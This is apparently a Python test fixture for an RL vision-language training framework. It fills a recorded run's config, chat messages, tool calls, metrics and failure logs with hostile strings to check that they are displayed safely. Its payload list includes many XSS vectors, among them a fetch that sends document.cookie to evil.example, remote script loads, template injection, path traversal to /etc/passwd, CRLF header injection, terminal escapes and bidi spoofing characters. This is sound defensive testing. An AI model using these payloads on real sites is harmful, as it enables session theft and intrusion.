"""A run whose texts, names and pictures are those of a hostile environment: what a page must show and never obey."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import yaml
from PIL import Image

from rl_vlm.config import PolicyConfig
from rl_vlm.learning.plan import TokenRecord
from rl_vlm.models.loading import load_text_side, resolve_model
from rl_vlm.monitoring.recorder import RunRecorder
from rl_vlm.rollout.tasks import RolloutTask
from rl_vlm.types import EncodedImage, Message, StopReason, Trajectory, TrajectoryGroup, TrajectoryStatus, Turn

CALL = "fetch('http://evil.example/'+document.cookie);window.pwned=1;alert(1)"
BIDI = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"]
PAYLOADS = [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"</script><script>{CALL}</script>", "<script src=http://evil.example/x.js></script>",
    f"<img src=x onerror=\"{CALL}\">", "<img src=http://evil.example/pixel.png>", f"<svg onload=\"{CALL}\">", f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin=\"{CALL}\" attributeName=x dur=1s>", f"<svg><use href=\"data:image/svg+xml,<svg onload={CALL}>\"></svg>",
    f"<iframe src=\"javascript:{CALL}\"></iframe>", "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", f"<object data=\"javascript:{CALL}\">",
    "<embed src=http://evil.example/>", f"<body onload=\"{CALL}\">", f"<details open ontoggle=\"{CALL}\">", f"<video><source onerror=\"{CALL}\">",
    f"<input autofocus onfocus=\"{CALL}\">", f"<select autofocus onfocus=\"{CALL}\">", f"<marquee onstart=\"{CALL}\">", f"<math><mi xlink:href=\"javascript:{CALL}\">x",
    f"<a href=\"javascript:{CALL}\">click</a>", "<form action=http://evil.example><button>go</button></form>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>", "<link rel=stylesheet href=http://evil.example/x.css>", "<style>@import url(http://evil.example/x.css);*{display:none}</style>",
    f"<template><script>{CALL}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">", f"\"><script>{CALL}</script>",
    f"' onmouseover='{CALL}", f"javascript:{CALL}", f"[click](javascript:{CALL})", "![x](http://evil.example/pixel.png)", f"[x]: javascript:{CALL}",
    f"<https://evil.example/{CALL}>", "```html\n<script>window.pwned=1</script>\n```", "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "{@html '<img src=x onerror=window.pwned=1>'}",
    "<!-- --><script>window.pwned=1</script>", "<![CDATA[<script>window.pwned=1</script>]]>", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e", "__proto__", "constructor", "toString", "../../../../etc/passwd", "..%2f..%2fsecret.txt", "file:///etc/passwd",
    "\x1b[2J\x1b]0;title\x07", "\x00\x01\x02null", "\x9b31m\x85", "\r\nSet-Cookie: x=1", "\ufeff\u200b", "a" * 5000, "\U000e0041\U000e007f", *(f"user{mark}nimda" for mark in BIDI),
]  # fmt: skip
# What the episodes hold: markup three at a time, because a page is opened for each; the others mean something alone.
_MARKUP = next(k for k, one in enumerate(PAYLOADS) if one == "__proto__")
TEXTS = [*(" ".join(PAYLOADS[k : k + 3]) for k in range(0, _MARKUP, 3)), *PAYLOADS[_MARKUP:]]


def picture(k: int) -> EncodedImage:
    return EncodedImage.from_pil(Image.new("RGB", (32, 32), (k * 37 % 256, k * 91 % 256, 128)))


def write_hostile_run(folder: Path) -> None:
    """Each text stands in question, answer, thought, tool call, tool reply, info, names and messages of an episode."""
    folder.mkdir(parents=True)
    config = PolicyConfig.model_validate({"logging": {"tensorboard": False, "trajectories_per_dump": 1000}})
    bad_keys = {bad[:60]: bad for bad in PAYLOADS}
    settings = {**config.model_dump(mode="json"), "name": PAYLOADS[0], "env": {"id": PAYLOADS[3], "kwargs": bad_keys}}
    (folder / "config.yaml").write_text(yaml.safe_dump(settings, allow_unicode=True))
    recorder, text = RunRecorder(folder, config), load_text_side(resolve_model("tiny"))
    groups, items = [], []
    for k, bad in enumerate(TEXTS):
        ids = text.codec.encode_raw(bad[:200]).astype(np.int32)
        ids = np.concatenate([[text.codec.end_of_turn_id], ids, [text.codec.end_of_turn_id]]).astype(np.int32)
        mask = np.arange(len(ids)) > 0
        logprobs = np.where(mask, -0.5, 0).astype(np.float32)
        called = json.dumps({"name": bad[:60] or "x", "arguments": {bad[:60]: bad}})
        messages = (
            Message.of("system", bad),
            Message.of("user", picture(k), bad),
            Message.of("assistant", f"<think>{bad}</think>{bad}\n<tool_call>{called}</tool_call>"),
            Message.of("tool", bad),
        )
        for sample in range(2):
            one = Trajectory(
                f"{bad[:80]}/{sample}", ids, mask, logprobs,
                (Turn(1, len(ids), 0, StopReason.END_OF_TURN, float(sample), bad[:80], (), ((bad[:80], 1.0),)),),
                TrajectoryStatus.COMPLETED, (), {bad[:80]: bad, "correct": bool(sample), "category": bad},
                messages, bad[:200], (bad[:80],),
            )  # fmt: skip
            if not sample:
                groups.append(TrajectoryGroup(f"{k} {bad[:80]}", k, [one], bad[:80]))
                task = RolloutTask("t", k, "test", 0, 0, 1, 0.0, 0, variant=bad[:80], env=bad[:80])
                items.append((task, TrajectoryGroup("t", k, [one], bad[:80])))
            else:
                groups[-1].trajectories.append(one)
        recorder.log_message(1, bad)
    advantages = {
        one.trajectory_id: np.ones(one.num_sampled, np.float32) for group in groups for one in group.trajectories
    }
    recorder.dump_trajectories(1, groups, TokenRecord(advantages), text)
    recorder.dump_evaluation(1, items, text)
    for iteration in (1, 2):
        bad_metrics = {f"reward/{bad.strip()[:60]}".replace("\n", " ").replace("\r", " "): 1.0 for bad in PAYLOADS[:40]}
        recorder.log_iteration(iteration, {"reward/mean": 0.5, "time/step": 1.0, "time/sample": 0.5, **bad_metrics})
        recorder.log_evaluation(iteration, {f"accuracy/{bad[:60]}": 0.5 for bad in PAYLOADS[:40]})
    recorder.log_failures(1, dict(zip(map(str, range(len(PAYLOADS))), PAYLOADS, strict=True)))
    recorder.finish({"status": PAYLOADS[1], "error": PAYLOADS[4]})
    assert pq.read_metadata(folder / "trajectories" / "iteration-000001.parquet").num_rows == 2 * len(TEXTS)
